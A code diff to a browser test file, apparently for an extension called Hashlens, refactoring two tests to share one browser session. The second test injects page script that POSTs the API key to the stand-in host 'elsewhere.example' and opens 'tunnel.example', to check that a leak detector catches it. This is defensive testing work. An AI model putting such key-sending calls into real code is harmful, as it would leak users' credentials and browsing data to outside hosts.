@@ -1,16 +1,21 @@
 import { sizes } from '../size.ts';
-import type { DrivenPage } from './driver/driver.ts';
+import type { DrivenPage, Driver } from './driver/driver.ts';
 import { pointOf } from './driver/hands.ts';
 import { prefer } from './driver/set-up.ts';
 import { until } from './driver/until.ts';
 import { expect, test } from './story.ts';
 import { firstAlone, type Place, placesOn, toPageUrl, viewsAtOnce } from './wire/session-pages.ts';
-import { wired } from './wire/wired.ts';
+import { openWired } from './wire/wired.ts';
 
 const { wirePages, wirePagesWithHovers: pagesAlone } = sizes;
 // As many groups of pages before each of these.
 const groupsEach = Math.ceil(firstAlone / viewsAtOnce / pagesAlone);
 const hoversOnEach = 10;
+
+// Both stories share a browser: the second shows that what the first did not find would be found in it.
+let opening: ReturnType<typeof openWired> | undefined;
+const wired = (browserKind: Driver['name']) => (opening ??= openWired(browserKind));
+test.afterAll(async () => (await opening)?.close());
 
 /** Opens a page, with so many less one in its frames, and waits until Hashlens has looked at each. */
 async function view(page: DrivenPage, first: number, count: number): Promise<void> {
@@ -35,79 +40,77 @@ test('of all page views and hovers only the API hears, once of each unknown, and
 }) => {
   // A few minutes at full size.
   test.setTimeout(600_000);
-  await wired(browserKind, async ({ driver, apiRequests, views, leaks }) => {
-    await prefer(driver, { showAfterMs: 100 });
-    const page = await driver.openPage('about:blank');
-    let opened = 0;
-    let hovers = 0;
-    let expected = 0;
-    const hoverAll = async (places: Place[], requestsEach: number) => {
-      for (const place of places) {
-        await rest(page, place);
-        hovers += 1;
-        expected += requestsEach;
-        expect(apiRequests().length, `after ${place.name}`).toBe(expected);
-      }
-    };
-
-    let known: Place[] = [];
-    for (let alone = 0; alone < pagesAlone; alone += 1) {
-      const start = alone * groupsEach * viewsAtOnce;
-      const end = Math.min(start + groupsEach * viewsAtOnce, firstAlone);
-      // Each of them in the tab, and those that stand in frames of the first of ten there too.
-      for (let number = start; number < end; number += 1) {
-        await view(page, number, number % viewsAtOnce === 0 ? viewsAtOnce : 1);
-        opened += 1;
-      }
-      await view(page, firstAlone + alone, 1);
-      opened += 1;
-      expect(apiRequests().length, `after page ${firstAlone + alone}`).toBe(expected);
-      const { final, moving } = placesOn(firstAlone + alone);
-      await hoverAll([...final, ...moving], 1);
-      // Whatever is final is known from now on, on every page.
-      await hoverAll([...known, ...final, ...final].slice(0, final.length + moving.length), 0);
-      known = final.slice(1);
+  const { driver, apiRequests, views, leaks } = await wired(browserKind);
+  await prefer(driver, { showAfterMs: 100 });
+  const page = await driver.openPage('about:blank');
+  let opened = 0;
+  let hovers = 0;
+  let expected = 0;
+  const hoverAll = async (places: Place[], requestsEach: number) => {
+    for (const place of places) {
+      await rest(page, place);
+      hovers += 1;
+      expected += requestsEach;
+      expect(apiRequests().length, `after ${place.name}`).toBe(expected);
     }
+  };
 
-    expect(opened).toBe(wirePages);
-    expect(views(), 'with those in frames').toBe(opened + firstAlone - firstAlone / viewsAtOnce);
-    expect(hovers).toBe(pagesAlone * hoversOnEach);
-    expect(expected).toBe(hovers / 2);
-    expect(new Set(apiRequests()).size).toBe(expected);
-    expect(leaks()).toEqual([]);
-  });
+  let known: Place[] = [];
+  for (let alone = 0; alone < pagesAlone; alone += 1) {
+    const start = alone * groupsEach * viewsAtOnce;
+    const end = Math.min(start + groupsEach * viewsAtOnce, firstAlone);
+    // Each of them in the tab, and those that stand in frames of the first of ten there too.
+    for (let number = start; number < end; number += 1) {
+      await view(page, number, number % viewsAtOnce === 0 ? viewsAtOnce : 1);
+      opened += 1;
+    }
+    await view(page, firstAlone + alone, 1);
+    opened += 1;
+    expect(apiRequests().length, `after page ${firstAlone + alone}`).toBe(expected);
+    const { final, moving } = placesOn(firstAlone + alone);
+    await hoverAll([...final, ...moving], 1);
+    // Whatever is final is known from now on, on every page.
+    await hoverAll([...known, ...final, ...final].slice(0, final.length + moving.length), 0);
+    known = final.slice(1);
+  }
+
+  expect(opened).toBe(wirePages);
+  expect(views(), 'with those in frames').toBe(opened + firstAlone - firstAlone / viewsAtOnce);
+  expect(hovers).toBe(pagesAlone * hoversOnEach);
+  expect(expected).toBe(hovers / 2);
+  expect(new Set(apiRequests()).size).toBe(expected);
+  expect(leaks()).toEqual([]);
 });
 
 test('what a page sends by itself to the API or elsewhere is found on the wire', async ({ browserKind }) => {
-  await wired(browserKind, async ({ driver, api, leaks }) => {
-    const page = await driver.openPage(toPageUrl(1));
-    expect(leaks()).toEqual([]);
-    const hash = `0x${'0'.repeat(64)}`;
+  const { driver, api, leaks } = await wired(browserKind);
+  const page = await driver.openPage(toPageUrl(1));
+  expect(leaks()).toEqual([]);
+  const hash = `0x${'0'.repeat(64)}`;
 
-    await page.evaluate(
-      (apiUrl, key, path) => {
-        const send = (url: string, init: RequestInit = {}) =>
-          void fetch(url, { mode: 'no-cors', ...init }).catch(() => {});
-        send(`${apiUrl}${path}?apikey=${key}&page=${encodeURIComponent(location.href)}`);
-        send('http://elsewhere.example/', { method: 'POST', body: key });
-        send('https://tunnel.example/');
-      },
-      api.url,
-      api.key,
-      `/1/api/v2/transactions/${hash}`,
+  await page.evaluate(
+    (apiUrl, key, path) => {
+      const send = (url: string, init: RequestInit = {}) =>
+        void fetch(url, { mode: 'no-cors', ...init }).catch(() => {});
+      send(`${apiUrl}${path}?apikey=${key}&page=${encodeURIComponent(location.href)}`);
+      send('http://elsewhere.example/', { method: 'POST', body: key });
+      send('https://tunnel.example/');
+    },
+    api.url,
+    api.key,
+    `/1/api/v2/transactions/${hash}`,
+  );
+
+  await expect
+    .poll(leaks)
+    .toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^the parameter page: GET http:\/\/127/),
+        expect.stringMatching(/^the header referer: GET http:\/\/127/),
+        expect.stringMatching(/^the page’s host bank\.example: GET http:\/\/127/),
+        'nobody asked for it: POST http://elsewhere.example/',
+        'the key goes elsewhere: POST http://elsewhere.example/',
+        'nobody asked for it: CONNECT tunnel.example:443',
+      ]),
     );
-
-    await expect
-      .poll(leaks)
-      .toEqual(
-        expect.arrayContaining([
-          expect.stringMatching(/^the parameter page: GET http:\/\/127/),
-          expect.stringMatching(/^the header referer: GET http:\/\/127/),
-          expect.stringMatching(/^the page’s host bank\.example: GET http:\/\/127/),
-          'nobody asked for it: POST http://elsewhere.example/',
-          'the key goes elsewhere: POST http://elsewhere.example/',
-          'nobody asked for it: CONNECT tunnel.example:443',
-        ]),
-      );
-  });
 });
